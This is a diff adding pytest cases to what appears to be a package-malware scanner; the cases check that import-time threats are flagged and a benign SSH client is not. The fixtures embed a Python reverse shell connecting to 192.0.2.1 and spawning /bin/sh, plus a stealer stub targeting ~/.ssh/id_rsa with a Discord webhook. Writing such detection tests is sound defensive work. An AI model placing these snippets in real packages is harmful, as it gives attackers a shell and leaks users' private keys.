@@ -508,3 +508,45 @@ def test_every_python_rule_names_what_the_prefilter_needs() -> None:
             assert not rule.reaches_low_at_import_time()
         for alternative in rule.needs:
             assert alternative and alternative <= set(NEEDS), (rule.id, alternative)
+
+
+IMPORT_TIME = (
+    Technique(
+        "reverse-shell-in-package-code",
+        "",
+        files={
+            "demo/__init__.py": "import os, socket, subprocess\n"
+            "def connect():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 9))\n"
+            "    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n",
+        },
+    ),
+    Technique(
+        "stealer-in-package-code",
+        "",
+        files={
+            "demo/__init__.py": "import os\n"
+            "PLACES = [os.path.expanduser('~/.ssh/id_rsa')]\n"
+            "HOOK = 'https://discord.com/api/webhooks/1/abc'\n",
+        },
+    ),
+)
+SSH_CLIENT_LIBRARY = Technique(
+    "ssh-client-library",
+    "",
+    files={
+        "demo/__init__.py": "import os, socket\n"
+        "CONFIG = os.path.expanduser('~/.ssh/config')\n"
+        "def connect(host):\n    return socket.create_connection((host, 22))\n",
+    },
+)
+
+
+@pytest.mark.parametrize("technique", IMPORT_TIME, ids=lambda t: t.name)
+def test_import_time_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
+    findings = [f for f in _scan(technique, tmp_path) if f.message.endswith("(import time).")]
+    assert max((f.severity for f in findings), default=Severity.INFO) >= Severity.HIGH, findings
+
+
+def test_ssh_client_library_is_not_blocked(tmp_path: Path) -> None:
+    findings = _scan(SSH_CLIENT_LIBRARY, tmp_path)
+    assert all(f.severity < Severity.HIGH for f in findings), findings
